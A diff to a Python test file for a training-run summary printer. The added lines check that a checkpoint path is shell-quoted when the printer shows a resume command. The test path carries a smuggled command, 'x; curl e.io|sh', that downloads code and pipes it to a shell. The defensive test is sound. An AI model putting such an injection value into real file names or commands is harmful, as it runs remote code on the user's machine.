@@ -104,6 +104,9 @@ def test_a_best_checkpoint_path_restored_from_a_checkpoint_reaches_the_terminal_
     RunSummary().on_fit_end(SimpleNamespace(callbacks=[best], logger=None), None)
     shown = capsys.readouterr().out
     assert "\x1b" not in shown and "\x07" not in shown and "\\x1b[2J" in shown
+    best.best_model_path = str(tmp_path / "x; curl e.io|sh #.ckpt")  # the next command, pasted, runs no other
+    RunSummary().on_fit_end(SimpleNamespace(callbacks=[best], logger=None), None)
+    assert f"--ckpt '{tmp_path}/x; curl e.io|sh #.ckpt')" in capsys.readouterr().out
 
 
 def test_an_error_line_shows_no_control_character_c1_included(capsys):
